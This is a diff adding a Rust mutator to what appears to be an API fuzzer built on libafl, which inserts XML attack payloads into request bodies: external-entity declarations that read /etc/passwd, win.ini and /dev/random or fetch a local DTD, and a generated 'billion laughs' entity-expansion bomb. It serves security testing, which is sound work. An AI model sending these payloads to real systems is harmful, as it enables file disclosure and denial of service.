@@ -0,0 +1,119 @@
+//! Adds a document type declaration to an XML body that attacks the XML parser of the target.
+//!
+//! Parsers that expand entities or load external entities and document type definitions are
+//! open to denial of service (entity expansion) and to the disclosure of files or requests to
+//! other hosts (XML external entities). The body references the entity of the declaration in
+//! the place of its first text, where the target may reflect it.
+
+use std::borrow::Cow;
+
+use libafl::{
+    mutators::{MutationResult, Mutator},
+    state::HasRand,
+    Error,
+};
+use libafl_bolts::{rands::Rand, Named};
+
+use crate::input::{Body, OpenApiInput};
+
+/// Document type declarations with external entities or definitions, and the entity that
+/// the body references. `{root}` stands for the name of the root element.
+pub const EXTERNAL_ENTITY_ATTACKS: [(&str, Option<&str>); 5] = [
+    (
+        "<!DOCTYPE {root} [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
+        Some("xxe"),
+    ),
+    (
+        "<!DOCTYPE {root} [<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\">]>",
+        Some("xxe"),
+    ),
+    (
+        "<!DOCTYPE {root} [<!ENTITY xxe SYSTEM \"http://127.0.0.1:1/wuppiefuzz\">]>",
+        Some("xxe"),
+    ),
+    (
+        "<!DOCTYPE {root} SYSTEM \"http://127.0.0.1:1/wuppiefuzz.dtd\">",
+        None,
+    ),
+    (
+        "<!DOCTYPE {root} [<!ENTITY % dtd SYSTEM \"file:///dev/random\"> %dtd;]>",
+        None,
+    ),
+];
+
+/// Number of levels of the entity expansion attack. Each level expands to ten times the
+/// entity of the level below it.
+const EXPANSION_LEVELS: usize = 9;
+
+/// A document type declaration with entities that expand to a billion strings when the
+/// entity of the highest level is referenced ("billion laughs").
+fn entity_expansion(root: &str) -> (String, String) {
+    let mut entities = String::from("<!ENTITY lol0 \"lol\">");
+    for level in 1..=EXPANSION_LEVELS {
+        let expansion = format!("&lol{};", level - 1).repeat(10);
+        entities += &format!("<!ENTITY lol{level} \"{expansion}\">");
+    }
+    (
+        format!("<!DOCTYPE {root} [{entities}]>"),
+        format!("lol{EXPANSION_LEVELS}"),
+    )
+}
+
+/// The `XmlAttackMutator` gives a random XML body of the series a document type declaration
+/// that attacks the XML parser.
+pub struct XmlAttackMutator;
+
+impl XmlAttackMutator {
+    #[must_use]
+    /// Creates a new XmlAttackMutator
+    pub fn new() -> Self {
+        Self {}
+    }
+}
+
+impl Default for XmlAttackMutator {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Named for XmlAttackMutator {
+    fn name(&self) -> &Cow<'static, str> {
+        &Cow::Borrowed("xmlattackmutator")
+    }
+}
+
+impl<S> Mutator<OpenApiInput, S> for XmlAttackMutator
+where
+    S: HasRand,
+{
+    fn mutate(&mut self, state: &mut S, input: &mut OpenApiInput) -> Result<MutationResult, Error> {
+        let bodies = input
+            .0
+            .iter_mut()
+            .filter_map(|request| match &mut request.body {
+                Body::ApplicationXml(body) => Some(body),
+                _ => None,
+            });
+        let rand = state.rand_mut();
+        let Some(body) = rand.choose(bodies) else {
+            return Ok(MutationResult::Skipped);
+        };
+        let root = body.root_name().into_owned();
+        // The entity expansion is one more choice
+        let choice =
+            rand.below(core::num::NonZero::new(EXTERNAL_ENTITY_ATTACKS.len() + 1).unwrap());
+        let (doctype, entity) = match EXTERNAL_ENTITY_ATTACKS.get(choice) {
+            Some((doctype, entity)) => {
+                (doctype.replace("{root}", &root), entity.map(str::to_owned))
+            }
+            None => {
+                let (doctype, entity) = entity_expansion(&root);
+                (doctype, Some(entity))
+            }
+        };
+        body.doctype = Some(doctype);
+        body.entity = entity;
+        Ok(MutationResult::Mutated)
+    }
+}